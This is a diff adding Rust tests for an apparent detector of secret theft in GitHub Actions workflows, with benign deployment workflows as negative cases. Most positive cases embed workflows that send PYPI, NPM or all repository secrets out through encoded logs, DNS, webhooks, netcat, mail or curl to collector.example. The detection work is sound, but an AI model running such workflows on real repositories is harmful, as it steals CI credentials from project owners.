@@ -1004,3 +1004,605 @@ jobs:
 "##;
     no_theft(WORKFLOW);
 }
+#[test]
+fn way_gh_comment() {
+    const WORKFLOW: &str = r##"name: x
+on: push
+jobs:
+  j:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - name: s
+        env:
+          P: ${{ secrets.PYPI_TOKEN }}
+          N: ${{ secrets.NPM_TOKEN }}
+          GH_TOKEN: ${{ github.token }}
+        run: |
+          gh pr comment 1 --body "$P $N"
+"##;
+    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "repository:github.com");
+}
+
+#[test]
+fn way_gh_release() {
+    const WORKFLOW: &str = r##"name: x
+on: push
+jobs:
+  j:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - name: s
+        env:
+          P: ${{ secrets.PYPI_TOKEN }}
+          N: ${{ secrets.NPM_TOKEN }}
+          GH_TOKEN: ${{ github.token }}
+        run: |
+          echo "$P $N" > k.txt
+          gh release upload v1 k.txt
+"##;
+    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "repository:github.com");
+}
+
+#[test]
+fn way_artifact() {
+    const WORKFLOW: &str = r##"name: x
+on: push
+jobs:
+  j:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - name: s
+        env:
+          P: ${{ secrets.PYPI_TOKEN }}
+          N: ${{ secrets.NPM_TOKEN }}
+        run: |
+          mkdir -p o; env > o/e
+      - uses: actions/upload-artifact@v4
+        with:
+          name: logs
+          path: o/
+"##;
+    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "artifact:logs");
+}
+
+#[test]
+fn way_cache() {
+    const WORKFLOW: &str = r##"name: x
+on: push
+jobs:
+  j:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - name: s
+        env:
+          P: ${{ secrets.PYPI_TOKEN }}
+          N: ${{ secrets.NPM_TOKEN }}
+        run: |
+          mkdir -p c; echo "$P $N" > c/x
+      - uses: actions/cache/save@v4
+        with:
+          key: k
+          path: c
+"##;
+    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "artifact:cache");
+}
+
+#[test]
+fn way_summary() {
+    const WORKFLOW: &str = r##"name: x
+on: push
+jobs:
+  j:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - name: s
+        env:
+          P: ${{ secrets.PYPI_TOKEN }}
+          N: ${{ secrets.NPM_TOKEN }}
+        run: |
+          echo "$P $N" | base64 -w0 | base64 -w0 >> "$GITHUB_STEP_SUMMARY"
+"##;
+    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "workflow-log");
+}
+
+#[test]
+fn way_log_hex() {
+    const WORKFLOW: &str = r##"name: x
+on: push
+jobs:
+  j:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - name: s
+        env:
+          P: ${{ secrets.PYPI_TOKEN }}
+          N: ${{ secrets.NPM_TOKEN }}
+        run: |
+          echo -n "$P" | od -An -tx1
+"##;
+    stolen(WORKFLOW, &["PYPI_TOKEN"], "workflow-log");
+}
+
+#[test]
+fn way_log_split() {
+    const WORKFLOW: &str = r##"name: x
+on: push
+jobs:
+  j:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - name: s
+        env:
+          P: ${{ secrets.PYPI_TOKEN }}
+          N: ${{ secrets.NPM_TOKEN }}
+        run: |
+          for i in $(seq 1 40); do echo "${P:$i:1}"; done
+"##;
+    stolen(WORKFLOW, &["PYPI_TOKEN"], "workflow-log");
+}
+
+#[test]
+fn way_log_py() {
+    const WORKFLOW: &str = r##"name: x
+on: push
+jobs:
+  j:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - name: s
+        env:
+          P: ${{ secrets.PYPI_TOKEN }}
+          N: ${{ secrets.NPM_TOKEN }}
+        run: |
+          python3 -c "import os; print(os.environ['P'][::-1], ' '.join(os.environ['N']))"
+"##;
+    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "workflow-log");
+}
+
+#[test]
+fn way_log_node() {
+    const WORKFLOW: &str = r##"name: x
+on: push
+jobs:
+  j:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - name: s
+        env:
+          P: ${{ secrets.PYPI_TOKEN }}
+          N: ${{ secrets.NPM_TOKEN }}
+        run: |
+          node -e "console.log(process.env.P.split('').join('-'), Buffer.from(process.env.N).toString('hex'))"
+"##;
+    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "workflow-log");
+}
+
+#[test]
+fn way_dns() {
+    const WORKFLOW: &str = r##"name: x
+on: push
+jobs:
+  j:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - name: s
+        env:
+          P: ${{ secrets.PYPI_TOKEN }}
+          N: ${{ secrets.NPM_TOKEN }}
+        run: |
+          host "$(echo -n $P$N | base32 | tr -d = | head -c 60).collector.example"
+"##;
+    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
+}
+
+#[test]
+fn way_ping() {
+    const WORKFLOW: &str = r##"name: x
+on: push
+jobs:
+  j:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - name: s
+        env:
+          P: ${{ secrets.PYPI_TOKEN }}
+          N: ${{ secrets.NPM_TOKEN }}
+        run: |
+          ping -c1 $P.collector.example
+"##;
+    stolen(WORKFLOW, &["PYPI_TOKEN"], "collector.example");
+}
+
+#[test]
+fn way_telegram() {
+    const WORKFLOW: &str = r##"name: x
+on: push
+jobs:
+  j:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - name: s
+        env:
+          P: ${{ secrets.PYPI_TOKEN }}
+          N: ${{ secrets.NPM_TOKEN }}
+        run: |
+          curl -s "https://api.telegram.org/bot123:AA/sendMessage" -d chat_id=1 -d text="$P $N"
+"##;
+    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "api.telegram.org");
+}
+
+#[test]
+fn way_discord() {
+    const WORKFLOW: &str = r##"name: x
+on: push
+jobs:
+  j:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - name: s
+        env:
+          P: ${{ secrets.PYPI_TOKEN }}
+          N: ${{ secrets.NPM_TOKEN }}
+        run: |
+          curl -F "content=$P $N" https://discord.com/api/webhooks/1/abc
+"##;
+    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "discord.com");
+}
+
+#[test]
+fn way_pastebin() {
+    const WORKFLOW: &str = r##"name: x
+on: push
+jobs:
+  j:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - name: s
+        env:
+          P: ${{ secrets.PYPI_TOKEN }}
+          N: ${{ secrets.NPM_TOKEN }}
+        run: |
+          echo "$P$N" | nc termbin.com 9999
+"##;
+    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "termbin.com");
+}
+
+#[test]
+fn way_uname_http() {
+    const WORKFLOW: &str = r##"name: x
+on: push
+jobs:
+  j:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - name: s
+        env:
+          P: ${{ secrets.PYPI_TOKEN }}
+          N: ${{ secrets.NPM_TOKEN }}
+        run: |
+          http POST https://collector.example p="$P" n="$N"
+"##;
+    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
+}
+
+#[test]
+fn way_mail() {
+    const WORKFLOW: &str = r##"name: x
+on: push
+jobs:
+  j:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - name: s
+        env:
+          P: ${{ secrets.PYPI_TOKEN }}
+          N: ${{ secrets.NPM_TOKEN }}
+        run: |
+          echo "$P $N" | mail -s x me@collector.example
+"##;
+    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
+}
+
+#[test]
+fn deployment_sendgrid_own() {
+    const WORKFLOW: &str = r##"name: x
+on: push
+jobs:
+  j:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - name: s
+        run: |
+          curl -X POST https://api.sendgrid.com/v3/mail/send -H "Authorization: Bearer ${{ secrets.SENDGRID_API_KEY }}" -d "{}"
+"##;
+    no_theft(WORKFLOW);
+}
+
+#[test]
+fn deployment_vault() {
+    const WORKFLOW: &str = r##"name: x
+on: push
+jobs:
+  j:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - name: s
+        run: |
+          curl -H "X-Vault-Token: ${{ secrets.VAULT_TOKEN }}" https://vault.widgets.example/v1/secret/x
+"##;
+    no_theft(WORKFLOW);
+}
+
+#[test]
+fn deployment_nexus() {
+    const WORKFLOW: &str = r##"name: x
+on: push
+jobs:
+  j:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - name: s
+        run: |
+          curl -u "${{ secrets.NEXUS_USER }}:${{ secrets.NEXUS_PASSWORD }}" -T dist.tgz https://nexus.widgets.example/repository/raw/
+"##;
+    no_theft(WORKFLOW);
+}
+
+#[test]
+fn deployment_sonar() {
+    const WORKFLOW: &str = r##"name: x
+on: push
+jobs:
+  j:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - name: s
+        run: |
+          sonar-scanner -Dsonar.host.url=https://sonar.widgets.example -Dsonar.login=${{ secrets.SONAR_TOKEN }}
+"##;
+    no_theft(WORKFLOW);
+}
+
+#[test]
+fn deployment_gitea() {
+    const WORKFLOW: &str = r##"name: x
+on: push
+jobs:
+  j:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - name: s
+        run: |
+          git push https://bot:${{ secrets.MIRROR_TOKEN }}@git.widgets.example/x.git main
+"##;
+    no_theft(WORKFLOW);
+}
+
+#[test]
+fn deployment_many_env_test() {
+    const WORKFLOW: &str = r##"name: x
+on: push
+jobs:
+  j:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - name: s
+        env:
+          A: ${{ secrets.OPENAI_API_KEY }}
+          B: ${{ secrets.ANTHROPIC_API_KEY }}
+          C: ${{ secrets.AWS_SECRET_ACCESS_KEY }}
+        run: |
+          pytest -q
+"##;
+    no_theft(WORKFLOW);
+}
+
+#[test]
+fn deployment_terraform() {
+    const WORKFLOW: &str = r##"name: x
+on: push
+jobs:
+  j:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - name: s
+        run: |
+          terraform apply -auto-approve -var "token=${{ secrets.CLOUDFLARE_API_TOKEN }}" -var "db=${{ secrets.DB_PASSWORD }}"
+"##;
+    no_theft(WORKFLOW);
+}
+
+#[test]
+fn deployment_env_debug() {
+    const WORKFLOW: &str = r##"name: x
+on: push
+jobs:
+  j:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - name: s
+        env:
+          T: ${{ secrets.NPM_TOKEN }}
+        run: |
+          env | sort
+"##;
+    no_theft(WORKFLOW);
+}
+
+#[test]
+fn deployment_heroku() {
+    const WORKFLOW: &str = r##"name: x
+on: push
+jobs:
+  j:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - name: s
+        env:
+          P: ${{ secrets.PYPI_TOKEN }}
+          N: ${{ secrets.NPM_TOKEN }}
+        run: |
+          heroku config:set A=$P B=$N --app x
+"##;
+    no_theft(WORKFLOW);
+}
+
+#[test]
+fn deployment_tmpkey() {
+    const WORKFLOW: &str = r##"name: x
+on: push
+jobs:
+  j:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - name: s
+        env:
+          P: ${{ secrets.PYPI_TOKEN }}
+          N: ${{ secrets.NPM_TOKEN }}
+        run: |
+          echo "${{ secrets.GPG_KEY }}" | gpg --import; echo "$P" | base64 -d > key.p12; security import key.p12
+"##;
+    no_theft(WORKFLOW);
+}
+
+#[test]
+fn deployment_pulumi() {
+    const WORKFLOW: &str = r##"name: x
+on: push
+jobs:
+  j:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - name: s
+        env:
+          PULUMI_ACCESS_TOKEN: ${{ secrets.PULUMI_ACCESS_TOKEN }}
+          AWS: ${{ secrets.AWS_SECRET_ACCESS_KEY }}
+        run: |
+          curl -fsSL https://get.pulumi.com | sh; pulumi up
+"##;
+    no_theft(WORKFLOW);
+}
+
+#[test]
+fn deployment_prt() {
+    const WORKFLOW: &str = r##"on: pull_request_target
+jobs:
+  j:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - run: make
+        env:
+          T: ${{ secrets.CODECOV_TOKEN }}
+"##;
+    no_theft(WORKFLOW);
+}
+
+#[test]
+fn deployment_inherit_own() {
+    const WORKFLOW: &str = r##"on: push
+jobs:
+  j:
+    uses: ./.github/workflows/b.yml
+    secrets: inherit
+"##;
+    no_theft(WORKFLOW);
+}
+
+#[test]
+fn way_matrix() {
+    const WORKFLOW: &str = r##"on: push
+jobs:
+  j:
+    runs-on: ubuntu-latest
+    strategy:
+      matrix:
+        s: [PYPI_TOKEN, NPM_TOKEN]
+    steps:
+      - run: curl -d '${{ secrets[matrix.s] }}' https://collector.example
+"##;
+    stolen(WORKFLOW, &["PYPI_TOKEN", "NPM_TOKEN"], "collector.example");
+}
+
+#[test]
+fn way_services() {
+    const WORKFLOW: &str = r##"on: push
+jobs:
+  j:
+    runs-on: ubuntu-latest
+    outputs:
+      o: ${{ steps.a.outputs.v }}
+    steps:
+      - id: a
+        run: echo "v=$(echo '${{ secrets.PYPI_TOKEN }}' | rev)" >> $GITHUB_OUTPUT
+  k:
+    needs: j
+    runs-on: ubuntu-latest
+    steps:
+      - run: curl 'https://collector.example/${{ needs.j.outputs.o }}'
+"##;
+    stolen(WORKFLOW, &["PYPI_TOKEN"], "collector.example");
+}
+
+#[test]
+fn way_script_action() {
+    const WORKFLOW: &str = r##"on: push
+jobs:
+  j:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/github-script@v7
+        env:
+          A: ${{ toJSON(secrets) }}
+        with:
+          script: |
+            const body = Buffer.from(process.env.A).toString('base64');
+            await fetch(`https://collector.example/?d=${body}`);
+"##;
+    stolen(WORKFLOW, &["*"], "collector.example");
+}
+
+#[test]
+fn way_run_if() {
+    const WORKFLOW: &str = r##"on: [push, pull_request]
+env:
+  ALL: ${{ toJSON(secrets) }}
+jobs:
+  j:
+    if: github.event_name == 'push'
+    runs-on: ubuntu-latest
+    steps:
+      - run: |
+          if [ -n "$CI" ]; then
+            printenv ALL | gzip | openssl base64 -A | curl -sS -X POST --data-binary @- "https://collector.example/u"
+          fi
+"##;
+    stolen(WORKFLOW, &["*"], "collector.example");
+}
